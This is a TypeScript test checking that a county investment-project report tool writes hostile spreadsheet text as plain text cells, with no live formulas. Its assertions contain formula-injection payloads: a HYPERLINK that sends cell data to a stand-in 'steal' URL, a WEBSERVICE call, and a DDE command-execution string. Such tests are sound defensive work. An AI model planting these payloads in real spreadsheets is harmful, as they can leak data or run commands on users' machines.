/**
 * `invest-flags report` with the hostile-text corpus in the ledger (issue 17): project names, leaders and
 * coordination text typed as formulas, DDE, links… are synced to the real local stack, and the .xlsx the report
 * writes holds no formula at all outside the product's generated totals (it generates none today: its totals are
 * computed figures) — every such text is a text cell, shown as typed in 全县项目.
 */
import ExcelJS from 'exceljs';
import { readFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { main } from '../../../addin/cli/main';
import { XlsxGateway } from '../../../addin/xlsx';
import { HOSTILE_TEXT } from '../../fixtures/hostile-text';
import { captureIo, useCliStack } from './harness';

jest.setTimeout(60_000);

const cli = useCliStack('invest-flags-report-hostile-');
const api = () => ['--api', cli.stack.url, '--token', cli.stack.adminToken];
/** The corpus short enough for a project name. */
const NAMES = HOSTILE_TEXT.filter((s) => s.length <= 100);

async function load(path: string) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(readFileSync(path) as unknown as ArrayBuffer);
  return wb;
}

/** The 1-based column of `title` in the sheet's header row (the first row holding it), 0 when none. */
function column(ws: ExcelJS.Worksheet, title: string): { row: number; col: number } | null {
  for (let r = 1; r <= Math.min(ws.rowCount, 10); r++) for (let c = 1; c <= ws.columnCount; c++) if (ws.getCell(r, c).value === title) return { row: r, col: c };
  return null;
}

describe('invest-flags report with hostile text in the ledger', () => {
  it('writes no formula outside the generated totals; hostile names are text, as typed', async () => {
    const input = join(cli.dir, 'ledger.xlsx');
    expect(await main(['sample', input, '--projects', '60', '--seed', '11', '--as-of', '2026-06-01'], captureIo().io)).toBe(0);
    // Project names, leaders and the problem text of the first rows of every list become the corpus.
    const wb = await load(input);
    let k = 0;
    for (const ws of wb.worksheets) {
      const name = column(ws, '项目名称');
      if (!name) continue;
      const leader = column(ws, '包联领导');
      const problem = column(ws, '存在问题');
      for (let r = name.row + 1; r <= ws.rowCount && k < NAMES.length * 2; r++, k++) {
        if (!ws.getCell(r, name.col).value) continue;
        const text = NAMES[k % NAMES.length]!;
        ws.getCell(r, name.col).value = `${text}`;
        if (leader) ws.getCell(r, leader.col).value = text;
        if (problem) ws.getCell(r, problem.col).value = text;
      }
    }
    // Saved as the gateway saves (control characters escaped: ExcelJS alone would write a corrupt file).
    await writeFile(input, await XlsxGateway.of(wb).save());
    const s = captureIo();
    await main(['sync', input, ...api(), '--as-of', '2026-06-01', '--json'], s.io);
    const summary = JSON.parse(s.out());
    // Every row synced; only the two whose cells hold "#N/A" / "#REF!" (Excel error literals) are refused.
    expect([summary.rows, summary.rejected]).toEqual([60, 2]);
    const flagged = join(cli.dir, 'ledger-flagged.xlsx');
    const t = captureIo();
    expect(await main(['report', flagged, ...api(), '--as-of', '2026-06-01', '--county-projects', '--json'], t.io)).toBe(0);
    const out = await load(JSON.parse(t.out()).output);

    const formulas: string[] = [];
    out.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && formulas.push(`${ws.name}!${cell.address}`)))));
    expect(formulas).toEqual([]);

    const shown = new Set<unknown>();
    out.getWorksheet('全县项目')!.eachRow((row) => row.eachCell((cell) => void shown.add(cell.value)));
    const synced = NAMES.filter((s) => shown.has(s));
    // Names the server keeps as typed (it trims surrounding whitespace) appear verbatim, as text.
    expect(synced.length).toBeGreaterThanOrEqual(20);
    for (const s of ['=HYPERLINK("http://x/steal?x="&A1,"点击查看")', '=WEBSERVICE("http://x")', "+cmd|' /C calc'!A0", '@SUM(1)', '-2+3']) expect(shown.has(s)).toBe(true);
  });
});
